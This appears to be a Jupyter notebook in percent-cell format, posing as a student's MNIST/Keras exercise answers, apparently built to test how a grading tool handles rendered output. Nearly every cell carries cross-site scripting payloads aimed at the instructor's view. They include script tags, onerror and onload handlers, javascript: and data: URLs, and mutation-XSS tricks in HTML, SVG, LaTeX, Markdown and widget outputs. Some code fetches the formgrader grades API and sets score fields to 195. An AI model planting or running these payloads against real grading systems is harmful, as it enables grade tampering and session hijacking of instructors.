# HTML, SVG, JavaScript, LaTeX, widgets and Markdown for the pages that an instructor opens.

# %% exercise="load_data"
(x_train, y_train), (x_test, y_test) = load_data()
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
display(HTML("<script>fetch('/formgrader/api/grades').then(r => r.json())</script>"))
display(HTML("<iframe srcdoc='&lt;script&gt;top.document.title=1&lt;/script&gt;'></iframe>"), HTML("<form action='/formgrader/api/score'>"))

# %% exercise="show_sample"
index, label = 7, int(y_train[7])
plt.imshow(x_train[index])
plt.title("<img src=x onerror=alert(1)>")
plt.show()
display(SVG(data="<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"))

# %% exercise="q_dataset"
dataset_name, learning_problem, number_of_classes = "mnist", "d", 10
display(Javascript("document.querySelectorAll('input.score').forEach(box => { box.value = 195 })"))
display({"application/javascript": "alert(1)", "text/plain": "<script>alert(1)</script>"}, raw=True)

# %% exercise="q_layers"
architecture, layer_kinds, number_of_layers, layers_with_parameters = "c", ["Flatten", "Dense", "Dense"], 3, 2
display(Latex(r"$$\href{javascript:alert(1)}{x} \require{html} \class{score}{\style{position:fixed}{y}}$$"))
display(Markdown("```mermaid\ngraph TD; a-->b; click a href \"javascript:alert(1)\"\n```\n<script>alert(1)</script>"))

# %% exercise="q_summary"
summary_purpose, parameters_per_layer, total_parameters = "b", [0, 100480, 1290], 101770
display({"application/vnd.jupyter.widget-view+json": {"model_id": "\"><script>alert(1)</script>", "version_major": 2},
         "application/vnd.jupyter.widget-state+json": {"state": {"a": {"model_name": "HTMLModel"}}},
         "text/html": "<script>alert(1)</script>"}, raw=True, metadata={"text/html": {"isolated": "\" onload=\"alert(1)"}})

# %% exercise="q_loss"
loss_name, metric_names, minimised = "sparse_categorical_crossentropy", ["accuracy"], "c"
display({"image/png": "\"><script>alert(1)</script>", "image/svg+xml": "<svg onload='alert(1)'/>", "text/plain": ""}, raw=True,
        metadata={"image/png": {"width": "1\" onerror=\"alert(1)", "height": "<b>"}})

# %% [markdown] exercise="q_activations_why"
# <script>alert(1)</script> ![x](x){onerror=alert(1)} <img src=x onerror=alert(1)> [a](javascript:alert(1))
# <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x &lt; 3 and y &gt; 2</a>

# %% [markdown] exercise="q_normalise_why"
# $\unicode{<script>}$ $$\begin{x}\href{javascript:alert(1)}{press}\end{x}$$ <svg/onload=alert(1)><math><mtext></mtext>
# <input name="score" value="195"><form id="x" formaction="javascript:alert(1)"><style>* {display: none}</style>

# %% [markdown] exercise="q_epochs_why"
# <!-- --><noscript><p title="</noscript><img src=x onerror=alert(1)>"> </textarea></script><script>alert(1)</script>
